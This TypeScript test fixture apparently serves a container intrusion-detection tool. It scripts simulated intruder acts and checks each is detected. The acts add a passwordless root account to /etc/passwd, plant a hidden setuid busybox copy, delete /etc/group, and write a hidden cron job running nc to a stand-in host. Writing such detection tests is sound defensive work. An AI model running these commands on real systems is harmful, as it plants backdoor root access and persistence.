import type { Finding } from '../../protocol/findings.ts'

/** What the intruder does, how it must be found, and what is said of it. */
export interface Act {
  readonly does: string
  /** For busybox's shell, as root in the container. */
  readonly script: string
  readonly isFound: (finding: Finding) => boolean
  /** Whether it must have been refused. */
  readonly denied?: boolean
}

/** Where the intruder puts the program. */
export const DROPPED = '/tmp/.x'

const changed = (path: string) => (finding: Finding) =>
  finding.kind === 'change' && finding.path?.path === path

export const acts: readonly Act[] = [
  {
    does: 'gives himself an account',
    script: `echo 'toor::0:0::/:/bin/sh' >> /etc/passwd`,
    isFound: changed('/etc/passwd'),
  },
  {
    does: 'drops a program, hidden and setuid',
    script: `cp /usr/bin/busybox ${DROPPED} && echo x >> ${DROPPED} && chmod 4755 ${DROPPED}`,
    isFound: changed(DROPPED),
  },
  {
    does: 'runs it',
    script: `${DROPPED} id`,
    isFound: (finding) => finding.kind === 'exec' && finding.exec?.verdict === 'denied',
    denied: true,
  },
  {
    does: 'deletes a file of the image',
    script: 'rm /etc/group',
    isFound: changed('/etc/group'),
  },
  {
    does: 'hides a script where it will be run again',
    script: 'mkdir -p /etc/cron.d && echo "* * * * * root nc 203.0.113.9 4444" > /etc/cron.d/.sync',
    isFound: changed('/etc/cron.d/.sync'),
  },
]

/** All of it undone, a moment later: the alerts and the evidence stay. */
export const TIDY_UP = `rm -f ${DROPPED} /etc/cron.d/.sync; grep -v toor /etc/passwd > /tmp/p; cat /tmp/p > /etc/passwd; rm /tmp/p`
